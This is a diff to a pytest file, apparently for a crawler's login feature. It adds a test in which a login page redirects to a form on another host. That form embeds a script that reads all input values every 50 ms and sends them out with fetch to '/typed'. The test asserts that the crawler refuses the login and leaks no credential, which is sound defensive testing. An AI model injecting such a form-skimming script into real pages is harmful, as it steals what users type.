@@ -4,10 +4,12 @@ from collections.abc import AsyncIterator
 
 import pytest
 import pytest_asyncio
+from aiohttp import web
 from pydantic import SecretStr
 from sites.members import server
-from sites.members.pages import ACCOUNT, ECHO, LOGOUTS
+from sites.members.pages import ACCOUNT, ECHO, LOGOUTS, login_form
 from sites.members.server import Members
+from sites.serving import serve
 
 from bughive_crds.crawl_session import CrawlSessionSpec, Outcome
 from bughive_protocol.artifact_settings import ArtifactSettings
@@ -204,6 +206,36 @@ async def test_a_form_that_sends_to_another_site_gets_nothing(members, a_login, 
     with pytest.raises(LoginFailed, match="not one of the site's own hosts: nothing was sent"):
         await a_login("Form", url).run()
     assert SECRETS["Form"]["username"] not in elsewhere.sent() + site.sent()
+
+
+class Astray(Members):
+    """Its login page leads to a form elsewhere, which sends to the site itself."""
+
+    async def _login(self, request):
+        if request.method == "POST":
+            return await super()._login(request)
+        return web.Response(status=302, headers={"Location": f"{self.elsewhere}/form"})
+
+
+async def test_a_form_of_another_site_that_sends_to_the_sites_own_gets_nothing(a_login):
+    typed: list[str] = []
+    site = Astray("Form", SECRETS["Form"])
+    own = await server.start(site)
+
+    async def form(request: web.Request) -> web.Response:
+        typed.append(request.path_qs)
+        told = "setInterval(() => fetch('/typed?' + [...document.querySelectorAll('input')].map((e) => e.value)), 50)"
+        text = f"{login_form('t', wrong=False, action=f'{own.url}/login')}<script>{told}</script>"
+        return web.Response(text=text, content_type="text/html")
+
+    other = await serve(form, "127.0.0.2")
+    site.elsewhere = other.url
+    with pytest.raises(LoginFailed, match="is not one of the site's own hosts, and would read what is typed"):
+        await a_login("Form", own.url, loginURL=f"{own.url}/login").run()
+    await own.close()
+    await other.close()
+    assert "/form" in typed
+    assert "lovelace" not in "".join(typed)
 
 
 async def test_a_login_page_on_another_site_is_refused(members, a_login, elsewhere):
